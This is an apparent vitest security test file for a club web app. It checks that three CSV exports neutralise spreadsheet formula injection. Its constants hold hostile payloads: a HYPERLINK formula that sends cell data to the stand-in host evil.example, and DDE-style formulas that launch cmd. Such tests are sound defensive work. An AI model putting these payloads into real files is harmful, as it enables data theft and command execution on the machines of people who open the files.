/**
 * Issue #30 finding 3 (CSV formula injection): every CSV the server writes — the draw's ticket export, the
 * paper-sales upload's result file and the injury notification export — neutralises a cell a spreadsheet
 * would read as a formula (`=`, `+`, `-`, `@`, tab, carriage return first) with a leading `'`, whatever
 * way the hostile text got into the data (a public entrant, an officer's paper sale, an uploaded file, a
 * stored record).
 */
import { parse } from 'csv-parse/sync';
import { eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_DRAW_ID, DEMO_PAPER_START } from '../../server/db/seed/draws.ts';
import { seedId } from '../../server/db/seed/random.ts';
import { injuryNotification } from '../../server/db/schema/index.ts';
import { DRAW_CLUB, DRAW_CLUB_PATH } from './draw-calls.ts';
import { startTestServer, type TestServer } from './harness.ts';
import { notificationBody } from './injury-notification-body.ts';

const club = DRAW_CLUB;
const base = DRAW_CLUB_PATH;
let s: TestServer;
beforeAll(async () => {
  s = await startTestServer();
});
afterAll(() => s.close());

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS = '+1+cmd|"/C calc"!A0';
const MINUS = '-2+3+cmd|"/C calc"!A0';

/** The CSV's records as objects keyed by the header row (the BOM checked and dropped). */
function records(csv: string): Record<string, string>[] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  return parse<Record<string, string>>(csv.slice(1), { columns: true });
}

/** A response's text with its BOM kept (`Response.text()` drops it). */
const textOf = async (res: Response) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer());

/** No cell of the file starts with a character a spreadsheet reads as the start of a formula. */
function expectNoFormula(rows: Record<string, string>[]) {
  for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
}

describe('the draw ticket export', () => {
  it('neutralises a hostile name from a paper sale and from a public entrant', async () => {
    const sale = await s.call(`/api/draw/ticket/${seedId('draw-ticket', DEMO_PAPER_START + 95)}/sale`, {
      method: 'POST',
      as: 'officer',
      json: { name: HYPERLINK, address: DDE, phone: '+353 87 123 4567', date: '2026-11-20' },
    });
    expect(sale.status).toBe(200);
    const entry = await s.call(`/api/draw-entry/${DEMO_DRAW_ID}`, {
      method: 'POST',
      json: {
        county: 'Wicklow',
        organizationId: club,
        entrants: [{ name: MINUS, address: PLUS, phone: '+353871111111', quantity: 1 }],
        over18: true,
        terms: true,
      },
    });
    expect(entry.status).toBe(201);

    const res = await s.call(`${base}/export.csv`, { as: 'officer' });
    expect(res.status).toBe(200);
    const rows = records(await textOf(res));
    const paper = rows.find((r) => r.ticketNumber === String(DEMO_PAPER_START + 95))!;
    expect(paper.name).toBe(`'${HYPERLINK}`);
    expect(paper.address).toBe(`'${DDE}`);
    expect(paper.phone).toBe(`'+353871234567`);
    const online = rows.find((r) => r.name === `'${MINUS}`)!;
    expect(online.address).toBe(`'${PLUS}`);
    // Other names pass as they were.
    expect(rows.some((r) => r.name === 'Aoife Ní Bhriain')).toBe(true);
    expectNoFormula(rows);
  });
});

describe('the paper-sales upload result file', () => {
  it('neutralises the hostile cells it echoes from the uploaded file', async () => {
    const csv = [
      'ticketNumber,name,address,phone,date',
      `${DEMO_PAPER_START + 96},"${HYPERLINK.replace(/"/g, '""')}",Kilbride,+353871234567,2026-11-21`,
      `@SUM(A1),Úna Ní Chonaill,Kilbride,+353871234567,2026-11-21`,
    ].join('\n');
    const res = await s.call(`${base}/upload`, {
      method: 'POST',
      as: 'officer',
      body: csv,
      headers: { 'Content-Type': 'text/csv' },
    });
    expect(res.status).toBe(200);
    const rows = records(((await res.json()) as { resultCsv: string }).resultCsv);
    expect(rows[0]).toMatchObject({ ticketNumber: String(DEMO_PAPER_START + 96), name: `'${HYPERLINK}` });
    expect(rows[1]).toMatchObject({ ticketNumber: "'@SUM(A1)", name: 'Úna Ní Chonaill', result: 'FAILED' });
    expectNoFormula(rows);
  });
});

describe('the injury notification export', () => {
  it('neutralises a hostile text stored in a notification', async () => {
    const me = (await (await s.call('/api/person/me', { as: 'member' })).json()) as { id: string };
    const created = await s.call('/api/player-injury-notification', {
      method: 'POST',
      as: 'member',
      json: notificationBody(me.id),
    });
    expect(created.status).toBe(201);
    const { id } = (await created.json()) as { id: string };
    // Stored data the schema no longer checks (an older version, an import): the export must not trust it.
    await s.database.db
      .update(injuryNotification)
      .set({
        details: sql`${injuryNotification.details} || ${JSON.stringify({ area: HYPERLINK, severity: '\tx' })}::jsonb`,
      })
      .where(eq(injuryNotification.id, id));

    const res = await s.call('/api/player-injury-notification/export', { as: 'officer' });
    expect(res.status).toBe(200);
    const rows = records(await textOf(res));
    const row = rows.find((r) => r.id === id)!;
    expect(row.area).toBe(`'${HYPERLINK}`);
    expect(row.severity).toBe("'\tx");
    expectNoFormula(rows);
  });
});
